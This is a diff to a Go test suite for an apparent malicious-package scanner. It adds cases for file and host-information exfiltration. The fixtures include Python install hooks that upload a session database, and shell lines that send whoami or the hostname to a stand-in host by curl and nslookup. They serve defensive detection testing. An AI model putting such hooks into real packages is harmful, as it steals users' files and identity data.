@@ -76,6 +76,9 @@ func TestRules(t *testing.T) {
 		// exfiltrates-host-info
 		{"hostname sent at install", map[string]string{"setup.py": "import socket, getpass, requests\nrequests.get('https://example.invalid/c', params={'h': socket.gethostname(), 'u': getpass.getuser()})\n"}, "exfiltrates-host-info", Malicious},
 		{"local address lookup is fine", map[string]string{"p/__init__.py": "import socket\nIP = socket.gethostbyname(socket.gethostname())\n"}, "", Clean},
+		// exfiltrates-files
+		{"session file uploaded on import", map[string]string{"p/__init__.py": "import requests\nwith open('/data/session.db', 'rb') as fh:\n    requests.post('https://example.invalid/c', files={'f': fh})\n"}, "exfiltrates-files", Malicious},
+		{"upload method of an SDK is runtime", map[string]string{"p/api.py": "import requests\ndef upload(path):\n    return requests.post('https://example.invalid/u', data=open(path, 'rb').read())\n"}, "exfiltrates-files", Clean},
 		// exfil-channel
 		{"request catcher with network", map[string]string{"setup.py": "import urllib.request\nurllib.request.urlopen('https://abc123.oastify.com/x')\n"}, "exfil-channel", Malicious},
 		{"webhook named in a docstring is fine", map[string]string{"p/notify.py": "import requests\ndef notify(url, msg):\n    '''url like https://hooks.slack.com/services/...'''\n    return requests.post(url, json={'text': msg})\n"}, "", Clean},
@@ -143,7 +146,7 @@ func utf16b64(s string) string {
 func TestEveryRuleTested(t *testing.T) {
 	covered := map[string]bool{}
 	for _, id := range []string{"exec-obfuscated", "exec-remote-code", "download-execute", "reverse-shell", "exfiltrates-host-info",
-		"exfil-channel", "credential-access", "persistence", "crypto-miner", "defence-evasion", "spyware", "suspicious-command",
+		"exfil-channel", "exfiltrates-files", "credential-access", "persistence", "crypto-miner", "defence-evasion", "spyware", "suspicious-command",
 		"pip-install-at-runtime", "network-at-install", "raw-ip-url", "obfuscated-code", "invisible-unicode", "shellcode-loader"} {
 		covered[id] = true
 	}
@@ -235,5 +238,32 @@ func TestDecoderHelperInlined(t *testing.T) {
 	r = sdist(t, map[string]string{"setup.py": helper + "os.system(b64d('" + b64("gcc -c ext.c") + "'))\n"})
 	if r.Verdict == Malicious {
 		t.Errorf("encoded compiler call: %s %+v", r.Verdict, r.Findings)
+	}
+}
+
+func TestExfiltratesFiles(t *testing.T) {
+	r := sdist(t, map[string]string{"setup.py": "import os, requests\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        p = os.path.expanduser('~/app/session.db')\n        with open(p, 'rb') as fh:\n            requests.post('https://example.invalid/check', files={'f': fh})\n"})
+	if r.Verdict != Malicious || !hasRule(r, "exfiltrates-files", Critical) {
+		t.Errorf("file uploaded at install: %s %+v", r.Verdict, r.Findings)
+	}
+	// An SDK's upload method is runtime code: noted, not a verdict.
+	r = sdist(t, map[string]string{"p/client.py": "import requests\ndef upload(path, url):\n    with open(path, 'rb') as fh:\n        return requests.post(url, files={'file': fh})\n"})
+	if r.Verdict == Malicious {
+		t.Errorf("runtime upload helper: %s %+v", r.Verdict, r.Findings)
+	}
+}
+
+func TestHostInfoThroughShell(t *testing.T) {
+	r := sdist(t, map[string]string{"setup.py": "import os\nwho = os.popen('whoami').read().strip()\nos.popen(f'curl -s http://example.invalid/u/{who} > /dev/null 2>&1')\n"})
+	if r.Verdict != Malicious || !hasRule(r, "exfiltrates-host-info", Critical) {
+		t.Errorf("whoami sent with curl: %s %+v", r.Verdict, r.Findings)
+	}
+	r = sdist(t, map[string]string{"setup.py": "import os\nos.system('nslookup $(hostname).example.invalid')\n"})
+	if r.Verdict != Malicious || !hasRule(r, "exfiltrates-host-info", Critical) {
+		t.Errorf("hostname in a DNS lookup: %s %+v", r.Verdict, r.Findings)
+	}
+	r = sdist(t, map[string]string{"setup.py": "import os\nv = os.popen('git describe --tags').read()\nos.system('curl -o $HOME/.cache/lib.tgz https://example.invalid/lib-%s.tgz' % v)\n"})
+	if hasRule(r, "exfiltrates-host-info", Info) {
+		t.Errorf("version from git in a download URL: %s %+v", r.Verdict, r.Findings)
 	}
 }
